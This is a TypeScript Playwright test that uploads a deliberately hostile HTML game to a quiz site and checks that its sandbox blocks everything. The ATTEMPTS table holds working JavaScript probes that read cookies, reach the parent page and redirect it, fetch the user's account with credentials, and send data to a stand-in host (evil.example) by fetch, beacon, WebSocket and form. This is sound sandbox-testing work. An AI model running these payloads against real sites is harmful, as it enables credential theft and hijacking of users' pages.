import type { Frame, Page } from 'playwright-core';
import { expect, inject, test } from 'vitest';
import { launchTestBrowser } from '#tests/helpers/browser';
import { openHomeAs } from '#tests/helpers/journeys/navigation';
import { callFromPage, openHomeAsNewUser } from '#tests/helpers/journeys/staff';

const { open } = launchTestBrowser();

/** Opens a page whose console may have errors: the browser reports each attempt that it refuses. */
async function openQuietly(path: string): Promise<Page> {
  const browser = (await open('about:blank')).context().browser();
  const page = await (await browser?.newContext({ baseURL: inject('origin') }))?.newPage();
  if (!page) throw new Error('The browser has no window.');
  await page.goto(path);
  return page;
}

/** What a hostile game tries. Each is an expression that throws, or is false, if the sandbox holds. */
const ATTEMPTS: Record<string, string> = {
  'read the cookies': 'document.cookie.length > 0',
  'write a cookie': "(document.cookie = 'a=1', document.cookie.includes('a=1'))",
  'use localStorage': "(localStorage.setItem('a', '1'), true)",
  'use sessionStorage': "(sessionStorage.setItem('a', '1'), true)",
  'open a database': "indexedDB.open('a') !== null && false",
  'use the cache': 'await caches.keys().then(() => true)',
  'read the page around it': 'parent.document.body !== null',
  'read the topmost page': 'top.document.body !== null',
  'read the address of the page': "parent.location.href.startsWith('http')",
  'write into the page': "(parent.document.title = 'taken', true)",
  'send the topmost page elsewhere': "(top.location = 'https://evil.example/', false)",
  'send the page elsewhere': "(parent.location.replace('https://evil.example/'), false)",
  'open a window': "window.open('/home') !== null",
  'fetch the account': "await fetch('ORIGIN/v1/auth/current_user', { credentials: 'include' }).then((response) => response.ok)",
  'fetch a public list': "await fetch('ORIGIN/v1/public_contents').then((response) => response.ok)",
  'fetch another host': "await fetch('https://evil.example/', { mode: 'no-cors' }).then(() => true)",
  'send a beacon': "navigator.sendBeacon('https://evil.example/', 'x') && await new Promise((resolve) => setTimeout(resolve, 300, false))",
  'start a worker':
    "await new Promise((resolve, reject) => { const worker = new Worker('ORIGIN/sw.js'); worker.onerror = reject; worker.onmessage = resolve; setTimeout(reject, 500) })",
  'start a worker of its own':
    "await new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onerror = reject; worker.onmessage = () => resolve(true); setTimeout(reject, 500) })",
  'register a service worker': "await navigator.serviceWorker.register('ORIGIN/sw.js').then(() => true)",
  'open a socket':
    "await new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = () => resolve(true); socket.onerror = reject })",
  'submit a form':
    "(document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"><button>a</button></form>'), document.querySelector('form').submit(), false)",
  'frame a page of the site':
    "await new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = 'ORIGIN/home'; frame.onload = () => { try { resolve(frame.contentDocument !== null) } catch { resolve(false) } }; document.body.append(frame); setTimeout(resolve, 500, false) })",
  'forge a message of the site': "(parent.postMessage({ type: 'QUIZLARK_SIGN_OUT' }, '*'), false)",
};

const buildGame = () => `<!doctype html><html><head><title>A hostile game</title></head><body><script>
const attempts = { ${Object.entries(ATTEMPTS)
  .map(([name, code]) => `${JSON.stringify(name)}: async () => ${code.replaceAll('ORIGIN', inject('origin'))}`)
  .join(',\n')} };
(async () => {
  const successes = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try { if (await attempt()) successes.push(name); } catch {}
  }
  document.body.dataset.successes = JSON.stringify(successes);
})();
</script></body></html>`;

/** The frame of the game, once it has tried everything. */
async function waitForAttempts(page: Page): Promise<Frame> {
  const findGame = () => page.frames().find((frame) => frame.url().includes('/games/'));
  await expect.poll(async () => (await findGame()?.locator('body').getAttribute('data-successes')) ?? null).not.toBeNull();
  return findGame() as Frame;
}

test('a hostile game reaches nothing of the site, the person or another host', { timeout: 180_000 }, async () => {
  expect(Object.keys(ATTEMPTS).length).toBeGreaterThanOrEqual(20);
  const { page } = await openHomeAsNewUser(openQuietly, 'player');
  const maker = await openHomeAs(open, 'quizlark');
  const game = await callFromPage(maker, 'POST /v1/articles', { title: 'A hostile game', htmlContent: buildGame(), status: 'public' });
  const foreignRequests: string[] = [];
  const credentials: string[] = [];
  page.on('request', async (request) => {
    if (!request.url().startsWith(inject('origin')) && /^(https?|wss?):/.test(request.url())) foreignRequests.push(request.url());
    const isOfGame = request.frame()?.url().includes('/games/') && !request.isNavigationRequest();
    if (isOfGame && /ql_session/.test((await request.allHeaders())['cookie'] ?? '')) credentials.push(request.url());
  });
  await page.goto(`/article/${game.urlName}`);
  const frame = await waitForAttempts(page);
  expect(JSON.parse((await frame.locator('body').getAttribute('data-successes')) ?? '[]')).toEqual([]);
  expect([foreignRequests, credentials, new URL(page.url()).pathname]).toEqual([[], [], `/article/${game.urlName}`]);
  expect((await page.context().cookies()).some(({ name }) => name === 'a')).toBe(false);
});
